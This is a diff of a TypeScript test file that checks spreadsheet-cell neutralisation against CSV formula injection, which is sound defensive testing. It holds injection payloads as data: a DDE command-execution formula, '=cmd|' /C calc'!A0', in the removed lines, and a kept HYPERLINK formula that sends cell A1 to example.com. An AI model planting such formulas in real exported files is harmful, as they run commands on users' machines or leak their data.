@@ -1,21 +1,9 @@
 import { describe, expect, it } from 'vitest';
+import { FORMULA_PAYLOADS as SUPPORT_PAYLOADS } from '../../test/support/formula-payloads.ts';
 import { codeColumnsOf, csvText, isExcelEncoding, neutralizeText, readSpreadsheetCell, spreadsheetCell, spreadsheetRows } from './spreadsheet-cells.ts';
 
-/** The payloads of OWASP's CSV-injection page, plus the full-width forms Japanese Excel reads. */
-const FORMULA_PAYLOADS: readonly string[] = [
-  "=cmd|' /C calc'!A0",
-  '+1+1',
-  '-2+3',
-  '@SUM(A1)',
-  '\t=1+1',
-  '\r=1+1',
-  '\n=1+1',
-  '＝１＋１',
-  '＋１',
-  '－２＋３',
-  '＠SUM(A1)',
-  '=HYPERLINK("http://example.com/?"&A1,"詳細")',
-];
+/** The export tests' payloads, plus one more formula that spreadsheets run. */
+const FORMULA_PAYLOADS: readonly string[] = [...SUPPORT_PAYLOADS, '=HYPERLINK("http://example.com/?"&A1,"詳細")'];
 
 describe('neutralizeText', () => {
   it.each(FORMULA_PAYLOADS)('%j gets a leading apostrophe', (p) => {
